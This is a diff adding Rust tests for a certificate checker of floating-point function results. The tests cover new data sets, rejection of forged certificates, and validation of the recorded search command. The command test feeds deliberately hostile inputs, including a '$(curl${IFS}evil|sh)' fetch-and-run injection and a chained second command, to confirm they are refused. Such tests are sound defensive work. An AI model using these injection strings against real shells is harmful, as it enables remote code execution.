@@ -10,6 +10,14 @@ const RUNS: &str = include_str!("data/runs.json");
 const DIRECT: &str = include_str!("data/direct.json");
 const DECIDED: &str = include_str!("data/decided.json");
 const SINH: &str = include_str!("data/sinh.json");
+/// erf next to 64, whose distances no precision shows.
+const DEEP: &str = include_str!("data/deep.json");
+/// 0.1·x from 1.25 on, where it is a power of two.
+const TENTH: &str = include_str!("data/tenth.json");
+/// log(exp(x)) from 1 on, of which no precision and no algebra tells that it is x.
+const UNDONE: &str = include_str!("data/undone.json");
+/// x³ below 2, with runs of every second input whose distances are those of all.
+const HALVES: &str = include_str!("data/halves.json");
 
 fn run(arguments: &[&str]) -> (Option<i32>, String) {
     let output = Command::new(env!("CARGO_BIN_EXE_tmd-check")).args(arguments).output();
@@ -84,12 +92,64 @@ fn honest_certificates_are_accepted() {
         ("direct", DIRECT),
         ("decided", DECIDED),
         ("sinh", SINH),
+        ("deep", DEEP),
+        ("tenth", TENTH),
+        ("undone", UNDONE),
+        ("halves", HALVES),
     ] {
         let (code, told) = check(&format!("{name}.json"), text, &["--sample", "9", "--seed", "1"]);
         assert_eq!(code, Some(0), "{name}: {told}");
         assert!(told.ends_with("tmd-check: accepted\n") && told.contains("trusted"), "{told}");
         let again = check(&format!("{name}.json"), text, &["--sample", "9", "--seed", "1"]);
         assert_eq!(again, (code, told), "the same seed tells the same");
+    }
+}
+
+/// The certificate of erf with another distance and other identical bits of the first case.
+fn told_by([distance, bits]: &[&str; 2]) -> String {
+    let text = edit(DEEP, "distance", 0, |_| (*distance).to_owned());
+    edit(&text, "identical_bits", 0, |_| (*bits).to_owned())
+}
+
+fn second(text: &str) -> String {
+    edit(text, "engine", 0, |_| "2".to_owned())
+}
+
+/// A certificate whose first run is said to be undecided, and no more than that.
+fn undecided_run(text: &str) -> String {
+    let start = text.find("\"what\": \"hard\"").expect("a run");
+    let end = start + text[start..].find("\"most\"").expect("a bound");
+    let text = format!("{}\"what\": \"unknown\", {}", &text[..start], &text[end..]);
+    let text = edit(&text, "complete", 0, |_| "false".to_owned());
+    edit(&text, "cases_in_runs", 0, |_| "4194300".to_owned())
+}
+
+/// The command is a search with the options of the request, as a shell reads it, and names a profile where there is one.
+#[test]
+fn commands_are_those_of_searches() {
+    let honest = "tmd-codegen search exp ";
+    let with = |new: &str| EXP.replacen(honest, new, 1);
+    for (name, text) in [
+        ("another program", with("codegen search exp ")),
+        ("another task", with("tmd-codegen plan exp ")),
+        ("a command in a command", with("tmd-codegen $(curl${IFS}evil|sh) exp ")),
+        ("a second command", with("tmd-codegen search exp; ")),
+        ("a command in quotes", with("tmd-codegen search \\\"exp$(evil)\\\" ")),
+        ("a quote without an end", with("tmd-codegen search 'exp ")),
+        ("an option twice", with("tmd-codegen search exp exp ")),
+        ("a profile that is not there", with("tmd-codegen search exp --profile p.toml ")),
+        ("a profile that is not named", EXP.replacen("{", "{\"profile\": {},", 1)),
+    ] {
+        assert_ne!(text, EXP, "{name}");
+        let (code, told) = check("command.json", &text, &[]);
+        assert!(code == Some(1) && told.contains("the command"), "{name}: {told}");
+    }
+    for word in ["exp", "'exp'", "\\\"exp\\\"", "'e''xp' --profile 'my $profile;'"] {
+        let text = with(&format!("tmd-codegen search {word} "));
+        let has_profile = word.contains("profile");
+        let text = if has_profile { text.replacen("{", "{\"profile\": {},", 1) } else { text };
+        let (code, told) = check("command.json", &text, &[]);
+        assert_eq!(code, Some(0), "{word}: {told}");
     }
 }
 
@@ -289,6 +349,21 @@ fn forgeries_are_refused() {
         ("a run that is less hard", scaled(RUNS, "most", 0, 0.5), "not as it says"),
         ("a run that is harder", scaled(RUNS, "least", 0, 2.0), "not as it says"),
         ("the inputs of a run told twice", twice_told(RUNS), "not as it says"),
+        ("a run with ε for a bound", edit(RUNS, "most", 0, |_| "9e-4".into()), "not as it says"),
+        ("a run told as undecided", undecided_run(RUNS), "not as it says"),
+        (
+            "a run of halves told harder",
+            edit(HALVES, "least", 1, |_| "1e-13".into()),
+            "not as it says",
+        ),
+        (
+            "a run that hardly moves, with no least distance",
+            edit(&RUNS.replacen("rising", "nearly constant", 1), "least", 0, |_| "0.0".into()),
+            "nearly constant",
+        ),
+        ("a deep case told by ε", told_by(&["1.5e-3", "9"]), "said to be"),
+        ("a deep case told by less", told_by(&["\"0x1.8p-3000\"", "2999"]), "said to be"),
+        ("the same of the second engine", second(&told_by(&["1.5e-3", "9"])), "said to be"),
         (
             "a run left out",
             edit(&without(RUNS, "runs", 0), "cases_in_runs", 0, |_| fewer(RUNS)),
